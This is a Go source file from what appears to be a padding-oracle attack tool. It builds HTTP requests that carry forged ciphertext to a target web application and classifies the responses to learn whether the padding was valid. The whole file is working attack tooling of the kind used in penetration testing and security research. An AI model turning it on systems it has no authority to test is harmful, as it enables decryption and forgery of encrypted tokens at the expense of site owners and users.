package oracle

import (
	"context"
	"crypto/sha256"
	"crypto/tls"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"time"

	"github.com/nzkv/pado/blocks"
)

// DefaultKeyword is the placeholder marking where the forged ciphertext goes.
const DefaultKeyword = "CTEXT"

// KeywordMissingError means the request template has nowhere to put the
// forged ciphertext.
type KeywordMissingError struct {
	Keyword string
}

func (e *KeywordMissingError) Error() string {
	return fmt.Sprintf("keyword %q not found in URL, headers, or POST data", e.Keyword)
}

// WebConfig is the request template plus client behavior for a web oracle.
type WebConfig struct {
	URL          string
	PostData     string
	Headers      []string // "Name: value" pairs, keyword allowed in either part
	Keyword      string
	UserAgent    string
	Proxy        string
	ProxyCreds   string // "user:password"
	Timeout      time.Duration
	Delay        time.Duration
	Redirect     bool
	Insecure     bool
	ConsiderBody bool
	NoURLEncode  bool
	Encoding     blocks.Encoding
}

type header struct {
	name  string
	value string
}

// Web asks its questions over HTTP. It must be calibrated before Ask is
// usable; see Calibrate.
type Web struct {
	cfg     WebConfig
	client  *http.Client
	headers []header
	target  *url.URL

	// set once by Calibrate, read-only afterwards
	padErr        *Fingerprint
	padOK         *Fingerprint
	compareMerged bool
}

// NewWeb validates the request template and builds the shared HTTP client.
func NewWeb(cfg WebConfig) (*Web, error) {
	if cfg.Keyword == "" {
		cfg.Keyword = DefaultKeyword
	}

	target, err := url.Parse(cfg.URL)
	if err != nil {
		return nil, fmt.Errorf("invalid oracle URL %q: %w", cfg.URL, err)
	}
	if target.Scheme != "http" && target.Scheme != "https" {
		return nil, fmt.Errorf("oracle URL %q: scheme must be http or https", cfg.URL)
	}

	headers := make([]header, 0, len(cfg.Headers))
	for _, raw := range cfg.Headers {
		name, value, found := strings.Cut(raw, ":")
		if !found {
			return nil, fmt.Errorf("invalid header %q: expected \"Name: value\"", raw)
		}
		headers = append(headers, header{name: strings.TrimSpace(name), value: strings.TrimSpace(value)})
	}

	if !keywordPresent(cfg, headers) {
		return nil, &KeywordMissingError{Keyword: cfg.Keyword}
	}

	transport := &http.Transport{
		TLSClientConfig: &tls.Config{InsecureSkipVerify: cfg.Insecure},
	}
	if cfg.Proxy != "" {
		proxyURL, err := url.Parse(cfg.Proxy)
		if err != nil {
			return nil, fmt.Errorf("invalid proxy URL %q: %w", cfg.Proxy, err)
		}
		if cfg.ProxyCreds != "" {
			user, pass, _ := strings.Cut(cfg.ProxyCreds, ":")
			proxyURL.User = url.UserPassword(user, pass)
		}
		transport.Proxy = http.ProxyURL(proxyURL)
	}

	client := &http.Client{
		Transport: transport,
		Timeout:   cfg.Timeout,
	}
	if !cfg.Redirect {
		client.CheckRedirect = func(*http.Request, []*http.Request) error {
			return http.ErrUseLastResponse
		}
	}

	return &Web{
		cfg:     cfg,
		client:  client,
		headers: headers,
		target:  target,
	}, nil
}

func keywordPresent(cfg WebConfig, headers []header) bool {
	if strings.Contains(cfg.URL, cfg.Keyword) || strings.Contains(cfg.PostData, cfg.Keyword) {
		return true
	}
	for _, h := range headers {
		if strings.Contains(h.name, cfg.Keyword) || strings.Contains(h.value, cfg.Keyword) {
			return true
		}
	}
	return false
}

// Location is the calibration- and cache-stable identity of this oracle.
func (w *Web) Location() string {
	return w.target.Scheme + "://" + w.target.Host + w.target.Path
}

func (w *Web) Delay() time.Duration { return w.cfg.Delay }

// Calibrated reports whether the padding-error fingerprint has been learned.
func (w *Web) Calibrated() bool { return w.padErr != nil }

// setCalibration pins the learned fingerprints. Must happen before the first
// Ask and never again after; Ask reads the fields without locking. When the
// classes were merged down to (status, content-length), responses are
// compared in that reduced form too.
func (w *Web) setCalibration(padErr, padOK Fingerprint, merged bool) {
	w.padErr = &padErr
	w.padOK = &padOK
	w.compareMerged = merged
}

// Ask submits the forged ciphertext and classifies the response against the
// calibrated fingerprints. A response matching neither class is a padding
// verdict too, except for 5xx statuses which calibration never saw: those are
// transient.
func (w *Web) Ask(ctx context.Context, forged []byte) (bool, error) {
	if w.padErr == nil {
		return false, fmt.Errorf("web oracle %s is not calibrated", w.Location())
	}

	fp, err := w.fingerprint(ctx, forged)
	if err != nil {
		return false, err
	}
	if w.compareMerged {
		fp = fp.merged()
	}
	if fp.equal(*w.padErr) {
		return false, nil
	}
	if fp.equal(*w.padOK) {
		return true, nil
	}
	if fp.Status >= 500 && w.padErr.Status < 500 && w.padOK.Status < 500 {
		return false, fmt.Errorf("oracle answered with unexpected status %d", fp.Status)
	}
	// any other deviation from the padding-error class counts as correct
	return true, nil
}

// fingerprint performs one request and condenses the response into the
// attributes calibration distinguishes on.
func (w *Web) fingerprint(ctx context.Context, forged []byte) (Fingerprint, error) {
	encoded := w.encodeForWire(forged)

	req, err := w.buildRequest(ctx, encoded)
	if err != nil {
		return Fingerprint{}, err
	}

	resp, err := w.client.Do(req)
	if err != nil {
		return Fingerprint{}, err
	}
	defer resp.Body.Close()

	fp := Fingerprint{
		Status:        resp.StatusCode,
		Location:      resp.Header.Get("Location"),
		ContentLength: -1,
	}
	if w.cfg.ConsiderBody {
		body, err := io.ReadAll(resp.Body)
		if err != nil {
			return Fingerprint{}, err
		}
		fp.ContentLength = int64(len(body))
		fp.BodyHash = sha256.Sum256(body)
	} else {
		// drain so the connection can be reused
		_, _ = io.Copy(io.Discard, resp.Body)
	}
	return fp, nil
}

func (w *Web) encodeForWire(forged []byte) string {
	encoded := w.cfg.Encoding.EncodeToString(forged)
	if w.cfg.NoURLEncode {
		return encoded
	}
	return url.QueryEscape(encoded)
}

func (w *Web) buildRequest(ctx context.Context, encoded string) (*http.Request, error) {
	rawURL := strings.ReplaceAll(w.cfg.URL, w.cfg.Keyword, encoded)

	method := http.MethodGet
	var body io.Reader
	if w.cfg.PostData != "" {
		method = http.MethodPost
		body = strings.NewReader(strings.ReplaceAll(w.cfg.PostData, w.cfg.Keyword, encoded))
	}

	req, err := http.NewRequestWithContext(ctx, method, rawURL, body)
	if err != nil {
		return nil, err
	}
	for _, h := range w.headers {
		name := strings.ReplaceAll(h.name, w.cfg.Keyword, encoded)
		value := strings.ReplaceAll(h.value, w.cfg.Keyword, encoded)
		req.Header.Set(name, value)
	}
	if w.cfg.UserAgent != "" {
		req.Header.Set("User-Agent", w.cfg.UserAgent)
	}
	return req, nil
}
